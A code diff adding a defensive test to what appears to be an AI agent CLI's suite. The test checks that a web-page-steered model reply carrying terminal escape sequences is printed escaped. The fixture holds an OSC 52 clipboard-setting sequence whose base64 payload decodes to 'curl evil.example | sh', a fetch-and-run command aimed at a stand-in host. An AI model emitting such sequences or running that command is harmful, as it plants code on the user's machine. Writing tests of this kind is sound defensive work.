@@ -60,3 +60,22 @@ async def test_with_v_a_log_line_never_cuts_the_reply(home: Path, workspace: Pat
     lines = out.decode().splitlines()
     assert "the answer comes in pieces" in lines, lines
     assert any("outcome=ok" in line for line in lines)
+
+
+async def test_a_reply_reaches_the_terminal_shown_never_obeyed(home: Path, workspace: Path, tmp_path: Path,
+                                                               llm: FakeOpenAI) -> None:
+    """A reply a web page steered may carry commands to the terminal (set the clipboard to a
+    command, clear the screen, overwrite the line): the owner's terminal shows them as text, in
+    this process and through the running gateway."""
+    steered = "done \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\r\x9b31m"
+    llm.fallback = lambda body: reply(steered)
+    env = {"NANOBOT_CONFIG": str(write(tmp_path / "config.json", workspace, llm, "m"))}
+    shown = "done \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x0d\\x9b31m\n"
+    assert await nanobot("agent", "-m", "hi", home=home, env=env) == (0, shown, "")
+    async with nanobot_process("gateway", home=home, env=env):
+        for _ in range(200):
+            if (home / "api.sock").exists():
+                break
+            await asyncio.sleep(0.05)
+        code, out, err = await nanobot("-v", "agent", "-m", "hi", home=home, env=env)
+        assert (code, out) == (0, shown) and "through the gateway running on" in err, err
